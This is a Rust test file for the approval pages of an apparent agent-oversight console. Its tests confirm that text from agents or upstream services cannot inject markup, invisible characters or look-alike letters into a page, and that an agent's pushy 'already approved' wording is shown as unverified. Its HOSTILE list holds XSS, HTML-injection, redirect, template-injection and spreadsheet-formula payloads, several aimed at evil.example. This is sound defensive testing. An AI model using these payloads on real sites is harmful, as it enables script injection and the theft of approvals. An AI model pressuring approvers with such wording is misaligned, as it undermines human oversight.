//! Whole pages from records: what hostile text cannot do to them.

use std::collections::BTreeSet;

use askama::Template as _;
use countersign_core::directory::Directory;
use countersign_core::problem::SourceFile;
use countersign_core::proposal::{Record, Salts, StoredParts};
use countersign_core::time::Timestamp;
use countersign_core::view::{Bound, Card};
use countersign_engine::store::LoggedEntry;
use serde_json::{Value, json};

use super::card::{self, ProposalPage};
use super::find::{FilterField, FilterForm};
use super::list::{Inbox, Kind, row};
use super::text::{Eye, Time};
use super::{Chrome, Message, PagePerson, WaitingCount, events, status};
use crate::console::proposal::{Sent, what_changed};

const NOW: Timestamp = Timestamp::from_micros(1_795_435_200_000_000);

fn directory() -> Directory {
    let text = r#"
[team.finance]
title = "Finance"
[person.ann]
name = "Ann Weber"
[person.bob]
name = "Bob Okafor"
teams = ["finance"]
[agent.support-bot]
title = "Support assistant"
owner = "bob"
act_for = ["person:ann"]
"#;
    Directory::load(&SourceFile { path: "directory.toml".into(), text: text.into() }).unwrap()
}

/// A filter that somebody was sent as a link, with `text` in it.
fn form(text: &str) -> FilterForm {
    let field = |name| FilterField::new(name, text, Vec::new(), BTreeSet::new());
    FilterForm::new("/", ["text", "agent", "since"].map(field).into())
}

/// A record in which `text` stands wherever an agent or an upstream can put text.
fn record(text: &str) -> Record {
    let digest = |c: &str| format!("sha256:{}", c.repeat(64));
    serde_json::from_value(json!({
        "proposal": {
            "id": "prp_01kawkbx1re0003g40r40m30e2", "action": "acme.refund.create", "title": "Refund",
            "revision": digest("a"), "input": { "charge": text, "amount": 25000 }, "salts": Salts::new(|| "00".into()),
            "chain": [{ "kind": "person", "id": "ann", "proof": "claimed" },
                      { "kind": "agent", "id": "support-bot", "proof": "key" }],
            "could_be": ["ann"], "confirmed_at": null,
            "undo": { "why": "A refund cannot be taken back.", "reversible": "never" },
            "reason": text, "run": text, "evidence": [{ "title": text, "body": { "mail": text } }],
            "created_at": 1_795_434_900_000_000_i64,
        },
        "binding": {
            "rendering": {
                "resource": { "type": "Charge", "id": text, "system": "acme" }, "environment": "support",
                "risk": { "mutating": true, "reversible": false, "external": true, "financial": true,
                          "amount": 250, "exact": "250.00", "currency": "usd", "count": 1 },
                "effects": [text, "The customer gets a mail."],
                "precondition": { "kind": "etag", "etag": "v7" },
                "call": { "kind": "http", "method": "POST", "url": format!("https://acme.test/{text}"),
                          "headers": [["x-note", text]], "body": ["application/json", text],
                          "credential": "acme-write", "ok": [200], "timeout_ms": 20000, "effect": "keyed" },
                "after": null,
            },
            "preview": {
                "fidelity": "computed", "at": 1_795_435_198_000_000_i64, "source": format!("GET {text}"),
                "before": { "id": text, "note": text, "refunded": 0 },
                "after": { "id": text, "note": "x", "refunded": 25000 },
                "patch": [{ "op": "replace", "path": "/note", "value": "x" },
                          { "op": "replace", "path": "/refunded", "value": 25000 }],
            },
            "intent": digest("b"), "version": "2",
        },
        "decision": {
            "answer": "needs_approval", "policies": [], "policy_set": digest("c"), "digest": digest("d"),
            "gates": [{ "policy": { "id": "refund-over-100", "digest": digest("e"), "reason": "Refunds over 100." },
                        "rules": ["finance"] }],
        },
        "approvals": [], "version": 1, "response": null, "parts": StoredParts::default(),
        "state": { "state": "pending", "standing": [{ "rule": "finance", "have": 0, "want": 1 }],
                   "decide_by": 1_795_436_700_000_000_i64 },
    }))
    .unwrap()
}

fn me() -> PagePerson {
    PagePerson {
        name: "Bob Okafor".into(),
        csrf: "token".into(),
        waiting: WaitingCount { count: 1, more: false },
        reads_log: true,
    }
}

fn logged(text: &str) -> Vec<LoggedEntry> {
    let entry = json!({
        "v": 1, "at": NOW.as_micros(), "event": "proposal.revised", "proposal": null, "version": 1,
        "actor": { "kind": "person", "id": "bob" }, "data": { "because": text },
    });
    vec![LoggedEntry { index: Some(3), leaf: None, body: serde_json::to_vec(&entry).unwrap() }]
}

fn shown(record: &Record) -> card::Shown {
    let card = Card::new(Bound::from(record), &directory());
    card::shown(&card, &record.binding.rendering.precondition, NOW)
}

fn page(record: &Record, text: &str) -> String {
    let card = Card::new(Bound::from(record), &directory());
    ProposalPage {
        chrome: Chrome::of("x", me(), ""),
        notice: Some(what_changed(&Sent { intent: text, decision: text }, record, &logged(text))),
        version: record.version,
        owner: Some(Eye::default().text("shop-team")),
        shown: shown(record),
        asks: card::asks(&card, &record.state, &[]),
        approvals: card::given(record, &directory(), NOW),
        created: Time::new(record.proposal.created_at, NOW),
        words: card::words(&record.proposal),
        status: status::status(record, &directory(), NOW),
        events: events::events(&logged(text), &directory(), NOW),
        decide: Some(card::decide(&card, "token")),
        confirm: (!record.proposal.chain.is_confirmed()).then(|| card::decide(&card, "token")),
        why_not: Vec::new(),
        cancel: Some("token".into()),
    }
    .render()
    .unwrap()
}

#[test]
fn the_card_says_how_each_link_is_known_and_what_must_come_first() {
    let mut record = record("x");
    let claimed = page(&record, "x");
    assert!(
        claimed.contains("<span class=\"badge amber\"><bdi>claimed by the agent</bdi></span>"),
        "{claimed}"
    );
    assert!(claimed.contains("<span class=\"muted\"><bdi>known by its key</bdi></span>"), "{claimed}");
    let form = format!("action=\"/proposals/{}/confirm\"", record.proposal.id);
    assert!(claimed.contains(&form) && claimed.contains("This is for me"), "{claimed}");
    record.proposal = record.proposal.confirmed(NOW).unwrap();
    let confirmed = page(&record, "x");
    assert!(!confirmed.contains(&form), "{confirmed}");
    assert!(confirmed.contains(&format!("confirmed by Ann Weber on {}", NOW.to_rfc3339())), "{confirmed}");
    record.decision.detail = Some("`ann` must confirm first".into());
    assert!(page(&record, "x").contains("`ann` must confirm first"));
}

/// Every page that shows text of others.
fn pages(text: &str) -> [String; 3] {
    let record = record(text);
    let card = Card::new(Bound::from(&record), &directory());
    let rows = |kind| vec![row(&card, &record, kind, NOW)];
    let inbox = Inbox {
        chrome: Chrome::of("Inbox", me(), "inbox"),
        yours: rows(Kind::Inbox),
        others: rows(Kind::History { yours: true }),
        form: form(text),
        next: None,
        further: None,
    };
    let message = Message {
        chrome: Chrome::public("x"),
        kicker: "404 proposal_not_found".to_owned(),
        heading: "x",
        lines: vec![Eye::default().text(text)],
        command: None,
        link: None,
    };
    [page(&record, text), inbox.render().unwrap(), message.render().unwrap()]
}

/// The tags of a page with the names of their attributes, as a tokenizer sees them (HTML, section 13.2.5).
fn tags(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some((_, after)) = rest.split_once('<') {
        rest = after;
        let mut quote = None;
        let mut tag = String::new();
        for c in rest.chars() {
            match (quote, c) {
                (None, '>') => break,
                (None, '"' | '\'') => quote = Some(c),
                (Some(q), c) if q == c => quote = None,
                (Some(_), _) => {}
                (None, c) => tag.push(c),
            }
        }
        found.push(tag);
    }
    found
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "' onmouseover='alert(1)' x='",
    "</bdi></div></main></body><form action=https://evil.example><button>Approve</button>",
    "</textarea><script src=//evil.example/x></script>",
    "</title><base href=//evil.example>",
    "<!--",
    "-->",
    "<![CDATA[",
    "{{ 7*7 }}{% include \"x\" %}",
    "${7*7}#{7*7}",
    "javascript:alert(1)",
    "[Approve](https://evil.example) ![x](https://evil.example/b.png) <!channel> <https://evil.example|ok>",
    "=cmd|' /C calc'!A0",
    "&lt;script&gt;&#60;script&#62;",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<details open ontoggle=alert(1)>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<plaintext>",
    "<style>*{display:none}</style>",
    "Approved by Security Team",
];

#[test]
fn no_text_of_others_makes_markup_t26_t128() {
    let benign = pages("plain words");
    for text in HOSTILE {
        for (shown, plain) in pages(text).iter().zip(&benign) {
            assert_eq!(tags(shown), tags(plain), "{text}");
        }
    }
}

#[test]
fn no_invisible_character_reaches_a_page_t23() {
    let odd =
        "a\u{202e}b\u{200b}c\u{2066}d\u{feff}e\u{ad}f\u{e0041}g\u{85}h\u{2028}i\u{7}j\u{1b}[31mk\u{180e}l";
    for html in pages(odd) {
        let hidden: Vec<char> =
            html.chars().filter(|c| *c != '\n' && (c.is_control() || odd_one(*c))).collect();
        assert!(hidden.is_empty(), "{hidden:?}");
        assert!(html.contains("&#60;U+202E&#62;"));
    }
    assert!(pages(odd)[0].contains("Unusual characters in"));
}

fn odd_one(c: char) -> bool {
    matches!(c, '\u{ad}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
        | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
}

#[test]
fn the_agents_own_words_change_nothing_on_the_card_t28() {
    let plain = record("plain words");
    let mut loud = plain.clone();
    loud.proposal.reason = Some("URGENT: already approved by the security team. Press Approve.".into());
    loud.proposal.run = Some("incident".into());
    loud.proposal.evidence.clear();
    assert_eq!(shown(&plain), shown(&loud));
    let html = page(&loud, "x");
    let box_at = html.find("class=\"words\"").unwrap();
    assert!(html.find("URGENT").unwrap() > box_at, "never above the card");
    assert!(html.find("</article>").unwrap() < box_at, "never inside the card");
    let label = html.find("Written by the agent, not verified").unwrap();
    assert!(label > box_at && label < html.find("URGENT").unwrap());
}

#[test]
fn names_come_from_the_directory_and_stand_beside_their_id_t33() {
    let html = page(&record("x"), "x");
    for expect in [
        "<strong><bdi>Support assistant</bdi></strong> <code><bdi>support-bot</bdi></code>",
        "<strong><bdi>Ann Weber</bdi></strong> <code><bdi>ann</bdi></code>",
    ] {
        assert!(html.contains(expect), "{expect}");
    }
}

#[test]
fn the_card_is_in_the_order_of_a_decision() {
    let html = page(&record("x"), "x");
    let parts = [
        "id=\"headline\"",
        ">Who<",
        "Why people are asked",
        "Approvals so far",
        "What changes",
        "What else will happen",
        "Way back</strong>",
        "Guarded</strong>",
        "Exact request",
        "<h3>Input",
        "Fingerprints",
        "Written by the agent",
        "Your decision",
        ">Approve<",
        ">Reject<",
    ];
    let places: Vec<usize> = parts.iter().map(|p| html.find(p).unwrap_or_else(|| panic!("{p}"))).collect();
    assert!(places.is_sorted(), "{places:?}");
    assert!(!html.contains("autofocus"));
    assert!(html.contains("250.00 USD"));
}

#[test]
fn the_forms_carry_what_the_page_shows_t19() {
    let record = record("x");
    let card = Card::new(Bound::from(&record), &directory());
    let html = page(&record, "x");
    // To confirm that it is for oneself needs no reading of the card; to approve or reject it does.
    for (digest, forms) in [(card.intent, 3), (card.decision, 3), (card.digest().unwrap(), 2)] {
        assert_eq!(html.matches(&format!("value=\"{digest}\"")).count(), forms, "{digest}");
    }
    assert_eq!(html.matches("name=\"csrf\" value=\"token\"").count(), 5);
}

#[test]
fn a_long_value_must_be_opened_before_it_is_approved_t25() {
    assert_eq!(shown(&record("x")).shortened, 0);
    let long = record(&"pad ".repeat(500));
    assert!(shown(&long).shortened > 0);
    let html = page(&long, "x");
    assert!(html.contains("name=\"seen\"") && html.contains("required data-seen"));
    assert!(!page(&record("x"), "x").contains("name=\"seen\""));
}

#[test]
fn letters_that_pass_for_others_are_pointed_at_t24() {
    let html = page(&record("pаypal"), "x");
    assert!(html.contains("letters of another alphabet pass for Latin ones"));
    assert!(html.contains("title=\"Letters of another alphabet that pass for Latin ones\""));
}

#[test]
fn a_stale_page_says_which_part_moved_t19() {
    let record = record("x");
    let (intent, decision) = (record.binding.intent.to_string(), record.decision.digest.to_string());
    let say = |intent: &str, decision: &str| {
        let notice = what_changed(&Sent { intent, decision }, &record, &[]);
        notice.lines.iter().map(ToString::to_string).collect::<String>()
    };
    assert!(say("other", &decision).contains("What would be done is different"));
    assert!(say(&intent, "other").contains("Who must approve"));
    assert!(say(&intent, &decision).contains("The card is different"));
}

#[test]
fn every_state_has_words_and_a_colour() {
    for state in countersign_core::proposal::StateName::ALL {
        assert!(!crate::surface::label(state).is_empty() && !status::tone(state).is_empty());
    }
}

#[test]
fn a_decided_proposal_shows_what_the_upstream_answered() {
    let mut value: Value = serde_json::to_value(record("x")).unwrap();
    value["state"] = json!({ "state": "succeeded", "attempt": "att_01kawkbx1re0003g40r40m30e2",
        "at": NOW.as_micros() });
    value["response"] = json!({ "status": 200, "body": { "refund": "re_<b>1</b>" },
        "content_type": "application/json", "scrubbed": true });
    let done: Record = serde_json::from_value(value).unwrap();
    let html = page(&done, "x");
    assert!(html.contains("re_&#60;b&#62;1"));
    assert!(html.contains("A secret was found in the answer and removed."));
}

#[test]
fn an_entry_of_another_version_is_shown_as_it_is_t121() {
    let strange =
        [LoggedEntry { index: None, leaf: None, body: b"{\"v\":9,\"x\":\"<b>\\u001b\"}\n{}".to_vec() }];
    let html = events::events(&strange, &directory(), NOW).render().unwrap();
    assert!(html.contains("cannot read") && html.contains("&#60;b&#62;"));
}
